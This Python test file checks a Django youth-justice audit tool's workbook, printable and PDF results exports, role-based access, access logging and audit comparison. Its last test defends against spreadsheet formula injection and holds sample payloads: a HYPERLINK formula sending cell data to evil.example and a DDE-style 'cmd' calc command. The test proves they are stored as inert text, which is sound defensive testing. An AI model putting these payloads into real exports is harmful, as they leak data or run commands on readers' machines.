"""The audit's results to take away: the workbook, the printable page, the PDF, and two
audits compared. Two hand-built audits of the 2018 framework, every figure worked out
by hand below:

"Spring" (the first): four court cases (North: N1, N2; South: S1, S2) and one
out-of-court case (North: O1). Every key question is answered Yes except:

- 2.1 question 1: N1 Yes, N2 No (settled by the lead auditor as Yes), S1 Yes, S2 No:
  standing 3 of 4, 75%, Good (the case auditors alone would give 2 of 4);
- 2.1 question 3: N2 Not relevant: 3 of 3;
- 2.1 question 1 prompt 1: N1 Yes, N2 Yes, S1 No, S2 Not relevant: 2 of 3, 66.7%.

So 2.1 is Good (2); 2.2 to 2.4 and 3.1 to 3.3 Outstanding (3 each, 18); 3.4 worked out
as Outstanding but the lead auditor departed to Inadequate (0); the lead auditor rated
1.1 Good, 1.2 and 1.3 Requires improvement, 1.4 Inadequate (2 + 1 + 1 + 0 = 4).
Score 2 + 18 + 0 + 4 = 24 out of 36: Good.

"Autumn" (the second): one court and one out-of-court case, every key question Yes, so
2.1 is Outstanding (up one band); 1.4 is now Good (up two bands); everything else as
in spring. Score 24 + 1 + 2 = 27: still Good.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
import re
import zipfile

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from childfirst.accounts.models import AccessLog, Role
from childfirst.audits.compare import (
    NotComparable,
    compare_summaries,
    movement,
    score_change,
)
from childfirst.audits.models import Answer, Audit, AuditCase, Settlement, StandardRating
from childfirst.audits.presentation import StandardRows, Summary
from childfirst.domain.inspection.audit import case_standards
from childfirst.domain.inspection.framework import CaseType, RatingLevel, load_framework
from tests.casework.conftest import error_summary, sign_in, text_of, title_of
from tests.casework.factories import ChildFactory, OutcomeFactory, TeamFactory, UserFactory

pytestmark = pytest.mark.django_db
D = dt.date
FRAMEWORK = "hmip-youth-2018"
KQ1 = "Does assessment sufficiently analyse how to support the child&#x27;s desistance?"
KQ1_TEXT = "Does assessment sufficiently analyse how to support the child's desistance?"
PROMPT1_TEXT = (
    "Is there sufficient analysis of offending behaviour, including the child's attitudes "
    "towards and motivations for their offending?"
)


@pytest.fixture(autouse=True)
def fast_password_hashing(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def person(role, team=None, **kwargs):
    return UserFactory(roles=[(role, team)], **kwargs)


def new_audit(lead, name, fieldwork):
    audit = Audit.objects.create(
        name=name,
        framework=FRAMEWORK,
        fieldwork_date=fieldwork,
        lead=lead,
        seed="test",
        created_by=lead,
    )
    audit.auditors.set([lead])
    return audit


def add_case(audit, case_type, team, auditor, reference, **child):
    child = ChildFactory(team=team, reference=reference, **child)
    court = case_type is CaseType.COURT
    outcome = OutcomeFactory(
        child=child, code="referral-order" if court else "youth-caution", date=D(2024, 3, 1)
    )
    case = AuditCase.objects.create(
        audit=audit,
        case_type=case_type.value,
        child=child,
        outcome=outcome,
        sex="Male",
        disposal_type=outcome.outcome_type.name,
        risk_of_serious_harm="low",
        safety_and_wellbeing="low",
        sampled=True,
        auditor=auditor,
        completed_at=timezone.now(),  # a finished case; results are provisional otherwise
    )
    framework = load_framework(FRAMEWORK)
    Answer.objects.bulk_create(
        Answer(
            case=case,
            standard=standard.number,
            question=kq.number,
            answer="yes",
            evidence=f"Seen on file for {reference}",
            answered_by=auditor,
        )
        for standard in case_standards(framework, case_type)
        for kq in standard.key_questions
    )
    return case


def answer(case, standard, question, value, prompt=0, **fields):
    Answer.objects.update_or_create(
        case=case,
        moderation=False,
        standard=standard,
        question=question,
        prompt=prompt,
        defaults={"answer": value, "answered_by": case.auditor, **fields},
    )


def rate(audit, **ratings):
    for number, rating in ratings.items():
        StandardRating.objects.create(
            audit=audit,
            standard=number.replace("_", "."),
            rating=rating,
            evidence=f"Evidence for {number.replace('_', '.')}",
            rated_by=audit.lead,
        )


@pytest.fixture
def teams():
    return TeamFactory(name="North"), TeamFactory(name="South")


@pytest.fixture
def lead():
    return person(Role.AUDITOR, first_name="Lee", last_name="Lead")


@pytest.fixture
def spring(teams, lead):
    north, south = teams
    audit = new_audit(lead, "Spring audit", D(2024, 10, 1))
    n1 = add_case(audit, CaseType.COURT, north, lead, "CF-N1")
    n2 = add_case(audit, CaseType.COURT, north, lead, "CF-N2")
    s1 = add_case(audit, CaseType.COURT, south, lead, "CF-S1")
    s2 = add_case(audit, CaseType.COURT, south, lead, "CF-S2")
    add_case(audit, CaseType.OUT_OF_COURT, north, lead, "CF-O1")
    answer(n2, "2.1", 1, "no", evidence="No analysis of the offence")
    Settlement.objects.create(
        case=n2,
        standard="2.1",
        question=1,
        answer="yes",
        rationale="The addendum analyses it",
        decided_by=lead,
    )
    answer(s2, "2.1", 1, "no")
    answer(n2, "2.1", 3, "not_relevant", relevance_reason="No one else at risk")
    for case, value in ((n1, "yes"), (n2, "yes"), (s1, "no"), (s2, "not_relevant")):
        answer(case, "2.1", 1, value, prompt=1)
    rate(
        audit,
        **{
            "1_1": "Good",
            "1_2": "Requires improvement",
            "1_3": "Requires improvement",
            "1_4": "Inadequate",
        },
    )
    StandardRating.objects.create(
        audit=audit,
        standard="3.4",
        rating="Inadequate",
        evidence="No joint decisions recorded with the police",
        rated_by=lead,
    )
    return audit


@pytest.fixture
def autumn(teams, lead):
    north, _ = teams
    audit = new_audit(lead, "Autumn audit", D(2025, 4, 1))
    add_case(audit, CaseType.COURT, north, lead, "CF-A1")
    add_case(audit, CaseType.OUT_OF_COURT, north, lead, "CF-A2")
    rate(
        audit,
        **{
            "1_1": "Good",
            "1_2": "Requires improvement",
            "1_3": "Requires improvement",
            "1_4": "Good",
        },
    )
    StandardRating.objects.create(
        audit=audit,
        standard="3.4",
        rating="Inadequate",
        evidence="Still no joint decisions recorded",
        rated_by=lead,
    )
    return audit


def workbook(response):
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    return load_workbook(io.BytesIO(response.content))


def rows_of(sheet):
    return [tuple(c for c in row) for row in sheet.iter_rows(values_only=True)]


def row_starting(sheet, text):
    found = [r for r in rows_of(sheet) if isinstance(r[0], str) and r[0].startswith(text)]
    assert found, f"no row starting {text!r} in {sheet.title}"
    return found[0]


# --------------------------------------------------------------------- the workbook


def test_the_workbook_has_the_summary_a_sheet_per_case_standard_and_the_answers(
    client, spring, lead
):
    response = sign_in(client, lead).get(f"/audits/{spring.pk}/results.xlsx")
    assert response["Content-Disposition"] == (
        f'attachment; filename="audit-{spring.pk}-results.xlsx"'
    )
    book = workbook(response)
    case_sheets = ["2.1", "2.2", "2.3", "2.4", "3.1", "3.2", "3.3", "3.4"]
    assert book.sheetnames == ["Summary", *case_sheets, "Case answers"]

    summary = book["Summary"]
    assert summary["A1"].value == "Spring audit"
    table = {r[0]: r[1:4] for r in rows_of(summary) if r[0] and re.fullmatch(r"\d\.\d", r[0])}
    assert list(table) == ["1.1", "1.2", "1.3", "1.4", *case_sheets]
    assert table["2.1"] == ("Assessment", "Good", 2)
    assert table["1.4"] == ("Information and facilities", "Inadequate", 0)
    assert table["3.4"] == ("Joint working", "Inadequate", 0)
    assert table["3.3"][1:] == ("Outstanding", 3)
    assert row_starting(summary, "Score")[3] == 24
    assert row_starting(summary, "Out of")[3] == 36
    assert row_starting(summary, "Overall rating")[2] == "Good"
    assert not any("Provisional" in str(r[0]) for r in rows_of(summary))

    sheet = book["2.1"]
    assert sheet["A1"].value == "2.1 Assessment"
    assert row_starting(sheet, "Question") == (
        "Question",
        "Relevant cases",
        "Number 'Yes'",
        "Percentage",
        "Rating",
    )
    q1 = row_starting(sheet, f"1. {KQ1_TEXT}")
    assert q1[1:3] == (4, 3) and q1[3] == pytest.approx(0.75) and q1[4] == "Good"
    assert row_starting(sheet, "2. Does assessment")[1:5] == (4, 4, 1, "Outstanding")
    assert row_starting(sheet, "3. Does assessment")[1:5] == (3, 3, 1, "Outstanding")
    prompt = row_starting(sheet, f"Prompt 1: {PROMPT1_TEXT}")
    assert prompt[1:3] == (3, 2) and prompt[3] == pytest.approx(2 / 3)
    assert row_starting(sheet, "Prompt 2:")[1:4] == (0, 0, None)
    # The prompts sit under their key question, indented.
    rows = [r[0] for r in rows_of(sheet)]
    assert rows.index(f"Prompt 1: {PROMPT1_TEXT}") == rows.index(f"1. {KQ1_TEXT}") + 1
    prompt_cell = next(c for c in sheet["A"] if c.value == f"Prompt 1: {PROMPT1_TEXT}")
    assert prompt_cell.alignment.indent == 2
    assert next(c for c in sheet["D"] if c.value == 0.75).number_format == "0.0%"
    assert row_starting(sheet, "Rating")[1] == "Good"
    flags = [r[0] for r in rows_of(sheet) if r[0] and str(r[0]).startswith("(")]
    assert [f[:3] for f in flags] == ["(a)", "(b)", "(c)"]

    joint = book["3.4"]
    assert row_starting(joint, "Rating")[1] == "Inadequate"
    assert row_starting(joint, "Rating worked out")[1] == "Outstanding"
    assert row_starting(joint, "Lead auditor's reason")[1] == (
        "No joint decisions recorded with the police"
    )

    answers = rows_of(book["Case answers"])
    assert answers[0] == (
        "Case type",
        "Child reference",
        "Auditor",
        "Standard",
        "Key question",
        "Prompt",
        "Question or prompt",
        "Answer",
        "Answer from",
        "Evidence",
        "Relevance reason",
        "Lead auditor's rationale",
    )
    by_key = {(r[1], r[3], r[4], r[5]): r for r in answers[1:]}
    assert {r[1] for r in answers[1:]} == {"CF-N1", "CF-N2", "CF-S1", "CF-S2", "CF-O1"}
    settled = by_key[("CF-N2", "2.1", 1, None)]
    assert settled[0] == "Court disposal" and settled[2] == "Lee Lead"
    assert settled[7:] == (
        "Yes",
        "Lead auditor's decision",
        "No analysis of the offence",
        None,
        "The addendum analyses it",
    )
    assert by_key[("CF-S2", "2.1", 1, None)][7:9] == ("No", "Case auditor")
    assert by_key[("CF-N2", "2.1", 3, None)][7] == "Not relevant"
    assert by_key[("CF-N2", "2.1", 3, None)][10] == "No one else at risk"
    assert by_key[("CF-S1", "2.1", 1, 1)][6:8] == (PROMPT1_TEXT, "No")
    assert by_key[("CF-S1", "2.1", 1, 2)][7:9] == ("Not answered", None)
    assert by_key[("CF-O1", "3.4", 1, None)][0] == "Out-of-court disposal"
    # Every case's key questions and prompts: 2.1 has 3 questions and 13 prompts.
    assert sum(1 for k in by_key if k[0] == "CF-N1" and k[1] == "2.1") == 16
    # The children named are written to the access log, as exported.
    assert AccessLog.objects.filter(user=lead).count() == 5
    assert set(AccessLog.objects.values_list("kind", flat=True)) == {"export"}


def test_the_workbook_keeps_its_layout(client, spring, lead):
    """Bold, wrapped headers, the column widths, frozen headers and the answers' filter."""
    book = workbook(sign_in(client, lead).get(f"/audits/{spring.pk}/results.xlsx"))
    summary = book["Summary"]
    header = next(r for r in summary.iter_rows() if r[0].value == "Standard")
    assert [c.font.b for c in header] == [True] * 5
    assert summary.freeze_panes == f"A{header[0].row + 1}"
    assert summary["A1"].font.b and summary["A1"].font.sz == 14
    assert [summary.column_dimensions[c].width for c in "ABCDE"] == [16, 44, 24, 8, 70]
    assert (
        row_starting(summary, "Overall rating")
        and next(c for c in summary["A"] if c.value == "Overall rating").font.b
    )
    sheet = book["2.1"]
    header = next(r for r in sheet.iter_rows() if r[0].value == "Question")
    assert all(c.font.b and c.alignment.wrap_text for c in header)
    assert sheet.freeze_panes == f"B{header[0].row + 1}"
    assert sheet.column_dimensions["A"].width == 90
    question = next(c for c in sheet["A"] if str(c.value).startswith("1. "))
    assert question.font.b and question.alignment.wrap_text
    answers = book["Case answers"]
    assert all(c.font.b and c.alignment.wrap_text for c in answers[1])
    assert answers.freeze_panes == "A2"
    assert answers.column_dimensions["G"].width == 70
    assert answers.auto_filter.ref == f"A1:L{answers.max_row}"


@pytest.mark.parametrize("page", ["results/", "results.pdf", "results.xlsx"])
def test_the_results_take_the_same_queries_however_many_cases(
    client, spring, lead, page, django_assert_max_num_queries
):
    """No query a case (issue 14): the results, the PDF and the workbook read each
    table once, whatever the sample's size (the spring audit has five cases)."""
    sign_in(client, lead)
    budget = {"results/": 15, "results.pdf": 16, "results.xlsx": 21}[page]
    with django_assert_max_num_queries(budget):
        assert client.get(f"/audits/{spring.pk}/{page}").status_code == 200


def test_the_workbook_says_provisional_while_work_is_under_way(client, spring, lead):
    Answer.objects.filter(case__child__reference="CF-S1", standard="2.2", question=1).delete()
    AuditCase.objects.filter(child__reference="CF-S1").update(completed_at=None)
    StandardRating.objects.filter(audit=spring, standard="1.2").delete()
    book = workbook(sign_in(client, lead).get(f"/audits/{spring.pk}/results.xlsx"))
    summary = book["Summary"]
    note = row_starting(summary, "Provisional")[0]
    total = 4 * 12 + 11  # four court cases of 12 key questions, one out-of-court of 11
    assert f"{total - 1} of {total} key-question answers are in" in note
    assert "not yet rated: 1.2" in note
    assert "1 case not yet finished" in note
    assert row_starting(summary, "Score")[3] is None
    assert row_starting(summary, "Overall rating")[2] == "Not rated (not yet rated: 1.2)"


def test_a_team_manager_gets_their_teams_cases_only(client, spring, teams):
    north, _ = teams
    manager = person(Role.TEAM_MANAGER, north)
    book = workbook(sign_in(client, manager).get(f"/audits/{spring.pk}/results.xlsx"))
    q1 = row_starting(book["2.1"], "1. Does assessment")
    assert q1[1:5] == (2, 2, 1, "Outstanding")  # N1 Yes, N2 settled Yes
    assert row_starting(book["2.1"], "3. Does assessment")[1:3] == (1, 1)
    references = {r[1] for r in rows_of(book["Case answers"])[1:]}
    assert references == {"CF-N1", "CF-N2", "CF-O1"}
    assert "your teams' children only" in book["Summary"]["A4"].value


def test_a_child_whose_record_the_reader_may_not_open_is_not_named(client, spring, lead):
    child = AuditCase.objects.get(audit=spring, child__reference="CF-S2").child
    child.restricted = True
    child.save()
    book = workbook(sign_in(client, lead).get(f"/audits/{spring.pk}/results.xlsx"))
    rows = rows_of(book["Case answers"])[1:]
    hidden = [r for r in rows if r[1] == "Restricted record"]
    assert hidden and all(r[9] is None for r in hidden)
    assert not any(r[1] == "CF-S2" for r in rows)
    # Its answers still count.
    assert row_starting(book["2.1"], "1. Does assessment")[1:3] == (4, 3)
    assert AccessLog.objects.filter(user=lead).count() == 4


def test_board_members_get_the_summary_sheet_only(client, spring):
    board = person(Role.BOARD_MEMBER)
    book = workbook(sign_in(client, board).get(f"/audits/{spring.pk}/results.xlsx"))
    assert book.sheetnames == ["Summary"]
    assert row_starting(book["Summary"], "Score")[3] == 24
    assert not AccessLog.objects.exists()


# ------------------------------------------------------------- printable page and PDF


def test_the_printable_page_shows_the_ratings_and_key_question_tables(client, spring, lead):
    response = sign_in(client, lead).get(f"/audits/{spring.pk}/results/print/")
    assert response.status_code == 200
    page = response.content.decode()
    assert "<script" not in page and "govuk-service-navigation" not in page
    assert "<link" not in page and "http://" not in page and "https://" not in page
    text = text_of(response)
    assert "Spring audit" in text and "2018 standards" in text
    assert "Fieldwork 1 October 2024" in text
    assert "4 court disposals, 1 out-of-court disposal" in text
    assert "2.1 Assessment Good 2" in text and "3.4 Joint working Inadequate" in text
    assert re.search(r"\b24( out of |/)36\b", text)
    assert f"{KQ1_TEXT} 4 3 75%" in text
    assert f"{PROMPT1_TEXT} 3 2 66.7%" in text
    assert "(c) the rating rests on 5 or fewer relevant cases" in text  # discretion
    assert "Evidence for 1.1" in text  # judgement evidence
    assert "No joint decisions recorded with the police" in text  # the lead's departure
    # The inline styles are allowed by this page's policy, through its nonce.
    nonce = re.search(r'<style nonce="([^"]+)"', page).group(1)
    assert f"'nonce-{nonce}'" in response["Content-Security-Policy"].split("style-src")[1]


def test_board_members_print_the_ratings_without_key_questions(client, spring):
    response = sign_in(client, person(Role.BOARD_MEMBER)).get(f"/audits/{spring.pk}/results/print/")
    assert response.status_code == 200
    page = response.content.decode()
    assert "2.1" in page and "Score" in page
    assert KQ1 not in page and "Prompt 1" not in page and "Relevant cases" not in page


def test_the_pdf_is_the_printable_page(client, spring, lead):
    response = sign_in(client, lead).get(f"/audits/{spring.pk}/results.pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == (
        f'attachment; filename="audit-{spring.pk}-results.pdf"'
    )
    assert response.content.startswith(b"%PDF")
    assert len(response.content) > 1000


@pytest.mark.parametrize("export", ["results/print/", "results.pdf"])
def test_printing_the_results_logs_an_export_of_each_case_they_count(
    client, spring, lead, teams, export
):
    """The results are worked out from the sampled cases: printing them (or the PDF) is an
    export of each, within the reader's scope (a team manager's, their teams' cases)."""
    assert sign_in(client, lead).get(f"/audits/{spring.pk}/{export}").status_code == 200
    counted = set(spring.cases.filter(sampled=True).values_list("child_id", flat=True))
    logged = list(AccessLog.objects.values_list("user_id", "child_id", "kind"))
    assert sorted(logged) == sorted((lead.pk, child, "export") for child in counted)
    AccessLog.objects.all().delete()
    north = teams[0]
    manager = person(Role.TEAM_MANAGER, north)
    assert sign_in(client, manager).get(f"/audits/{spring.pk}/{export}").status_code == 200
    theirs = set(
        spring.cases.filter(sampled=True, child__team=north).values_list("child_id", flat=True)
    )
    assert theirs and theirs != counted
    assert set(AccessLog.objects.values_list("child_id", flat=True)) == theirs
    assert set(AccessLog.objects.values_list("kind", flat=True)) == {"export"}


def test_the_board_s_printed_summary_names_no_child_and_logs_none(client, spring):
    board = person(Role.BOARD_MEMBER)
    assert sign_in(client, board).get(f"/audits/{spring.pk}/results/print/").status_code == 200
    assert not AccessLog.objects.exists()


# --------------------------------------------------------------------- who may see


@pytest.mark.parametrize("role", [Role.PRACTITIONER, Role.POLICE_PANEL])
def test_others_get_403_on_everything(client, spring, autumn, teams, role):
    someone = person(role, teams[0] if role == Role.PRACTITIONER else None)
    sign_in(client, someone)
    for url in (
        f"/audits/{spring.pk}/results/print/",
        f"/audits/{spring.pk}/results.pdf",
        f"/audits/{spring.pk}/results.xlsx",
        f"/audits/compare/?first={spring.pk}&second={autumn.pk}",
        "/audits/compare/",
    ):
        assert client.get(url).status_code == 403, url


def test_signing_in_comes_first(client, spring):
    response = client.get(f"/audits/{spring.pk}/results.xlsx")
    assert response.status_code == 302 and "next=" in response["Location"]


# --------------------------------------------------------------------- comparison


@pytest.mark.parametrize(
    ("first", "second", "expected"),
    [
        (2, 3, "Up one band"),  # Good to Outstanding
        (0, 2, "Up two bands"),  # Inadequate to Good
        (0, 3, "Up three bands"),
        (3, 1, "Down two bands"),  # Outstanding to Requires improvement
        (1, 0, "Down one band"),
        (2, 2, "No change"),
        (None, 1, "Newly rated"),
        (2, None, "Not rated"),
        (None, None, "Not rated"),
    ],
)
def test_movement_between_bands(first, second, expected):
    assert movement(first, second) == expected


def test_score_change():
    assert score_change(24, 27) == "+3"
    assert score_change(27, 24) == "-3"
    assert score_change(24, 24) == "0"
    assert score_change(None, 24) == ""


def rows(*items):
    """StandardRows from (number, name, rating, score) for the pure comparison tests."""
    return tuple(
        StandardRows(
            number=number,
            name=name,
            domain=int(number[0]),
            judgement=False,
            counts_in_score=number != "4.1",
            rating=rating,
            computed_rating="",
            score=score,
            questions=(),
            discretion=(),
            override_reason="",
            evidence="",
        )
        for number, name, rating, score in items
    )


def summary(standards, score, overall):
    return Summary(standards, score, 36, overall, (), True, 0, 0, 0, ())


def test_frameworks_are_compared_standard_by_number():
    old, new = load_framework("hmip-youth-2018"), load_framework("hmip-youth-2021")
    first = summary(
        rows(
            ("2.1", "Assessment", "Good", 2),
            ("3.4", "Joint working", "Requires improvement", 1),
        ),
        24,
        "Good",
    )
    second = summary(
        rows(
            ("2.1", "Assessment", "Requires improvement", 1),
            ("3.4", "Out-of-court disposal policy and provision", "Good", 2),
            ("4.1", "Resettlement policy and provision", "", None),
        ),
        31,
        "Outstanding",
    )
    found = compare_summaries(first, second, old, new)
    by_number = {r.number: r for r in found.standards}
    assert list(by_number) == ["2.1", "3.4", "4.1"]
    assert (by_number["2.1"].movement, by_number["2.1"].score_change) == ("Down one band", "-1")
    joint = by_number["3.4"]
    assert (joint.name, joint.other_name) == (
        "Out-of-court disposal policy and provision",
        "Joint working",
    )
    assert (joint.movement, joint.score_change) == ("Not comparable", "")
    resettlement = by_number["4.1"]
    assert (resettlement.first_rating, resettlement.second_rating) == (
        "Not in this framework",
        "Not rated",
    )
    assert found.total.movement == "Up one band" and found.total.score_change == "+7"


def test_different_rating_scales_are_refused():
    framework = load_framework(FRAMEWORK)
    renamed = dataclasses.replace(
        framework,
        ratings=tuple(
            RatingLevel(f"Level {r.score}", r.score, r.key_question_min_percentage, "")
            for r in framework.ratings
        ),
    )
    empty = summary((), None, "")
    with pytest.raises(NotComparable, match="rate on different scales"):
        compare_summaries(empty, empty, framework, renamed)


def comparison_rows(response):
    """``{standard: [cells]}`` from the Ratings by standard table, tags gone."""
    page = response.content.decode()
    table = page[page.index("Ratings by standard") : page.index("Totals")]
    found = {}
    for row in re.findall(r"<tr class=\"govuk-table__row\">(.*?)</tr>", table, re.DOTALL):
        cells = [
            " ".join(re.sub(r"<[^>]+>", " ", c).split())
            for c in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.DOTALL)
        ]
        if cells and re.fullmatch(r"\d\.\d", cells[0]):
            found[cells[0]] = cells[1:]
    return found


def test_compare_shows_each_standard_moving_and_the_totals(client, spring, autumn, lead):
    response = sign_in(client, lead).get(f"/audits/compare/?first={spring.pk}&second={autumn.pk}")
    assert response.status_code == 200
    table = comparison_rows(response)
    assert len(table) == 12
    assert table["2.1"] == ["Assessment", "Good", "Outstanding", "Up one band", "+1"]
    assert table["1.4"] == [
        "Information and facilities",
        "Inadequate",
        "Good",
        "Up two bands",
        "+2",
    ]
    assert table["3.4"] == ["Joint working", "Inadequate", "Inadequate", "No change", "0"]
    text = text_of(response)
    assert "Score 24/36 27/36 +3" in text
    assert "Overall rating Good Good No change" in text


def test_a_board_member_may_compare(client, spring, autumn):
    response = sign_in(client, person(Role.BOARD_MEMBER)).get(
        f"/audits/compare/?first={autumn.pk}&second={spring.pk}"
    )
    assert response.status_code == 200
    assert comparison_rows(response)["2.1"][1:] == ["Outstanding", "Good", "Down one band", "-1"]
    assert KQ1 not in response.content.decode()


def test_a_team_manager_compares_their_teams_results(client, spring, autumn, teams):
    manager = person(Role.TEAM_MANAGER, teams[1])  # South: no cases in autumn
    response = sign_in(client, manager).get(
        f"/audits/compare/?first={spring.pk}&second={autumn.pk}"
    )
    table = comparison_rows(response)
    # Spring's South cases S1 Yes, S2 No on 2.1 question 1: 1 of 2, 50%.
    assert table["2.1"][1:] == ["Requires improvement", "Not rated", "Not rated", "Not available"]


def test_compare_asks_for_two_audits(client, spring, autumn, lead):
    sign_in(client, lead)
    first_visit = client.get("/audits/compare/")
    assert first_visit.status_code == 200
    assert error_summary(first_visit) == []
    assert "Spring audit (fieldwork 1 October 2024)" in first_visit.content.decode()

    # A link may choose one audit ahead (the results page's "Compare with another audit").
    ahead = client.get(f"/audits/compare/?second={autumn.pk}")
    assert error_summary(ahead) == []
    assert re.search(rf'<option value="{autumn.pk}" selected>', ahead.content.decode())

    missing = client.get(f"/audits/compare/?first={spring.pk}&second=")
    assert error_summary(missing) == [("#id_second", "Choose the second audit")]
    assert "Ratings by standard" not in missing.content.decode()
    assert text_of(missing).startswith("There is a problem Choose the second audit")
    assert title_of(missing).startswith("Error: Compare two audits")

    wrong = client.get("/audits/compare/?first=abc&second=999999")
    assert error_summary(wrong) == [
        ("#id_first", "Choose the first audit from the list"),
        ("#id_second", "Choose the second audit from the list"),
    ]
    same = client.get(f"/audits/compare/?first={spring.pk}&second={spring.pk}")
    assert error_summary(same) == [("#id_second", "Choose a different audit from the first")]


# --------------------------------------------------------------- formula injection

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def test_text_that_looks_like_a_formula_is_written_as_text(client, spring, lead):
    """Issue 12, finding 2: an audit's name and an auditor's evidence beginning with
    ``=`` or ``+`` are kept as text in the workbook, never as live formulas."""
    Audit.objects.filter(pk=spring.pk).update(name=HYPERLINK)
    StandardRating.objects.filter(audit=spring, standard="3.4").update(
        evidence="+1+cmd|'/C calc'!A0"
    )
    Answer.objects.filter(case__audit=spring, evidence="No analysis of the offence").update(
        evidence="@SUM(A1:A9)"
    )
    response = sign_in(client, lead).get(f"/audits/{spring.pk}/results.xlsx")

    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        assert not any(b"<f>" in package.read(name) for name in sheets)  # no formula at all
    book = workbook(response)
    title = book["Summary"]["A1"]
    assert (title.value, title.data_type, title.quotePrefix) == (HYPERLINK, "s", True)
    cells = [c for s in book.worksheets for row in s.iter_rows() for c in row]
    texts = [c for c in cells if isinstance(c.value, str)]
    assert any("+1+cmd|'/C calc'!A0" in c.value for c in texts)
    assert [c.quotePrefix for c in texts if c.value == "@SUM(A1:A9)"] == [True]
    starting = [c for c in texts if c.value.startswith(("=", "+", "-", "@"))]
    assert len(starting) >= 2
    assert all(c.quotePrefix and c.data_type == "s" for c in starting)
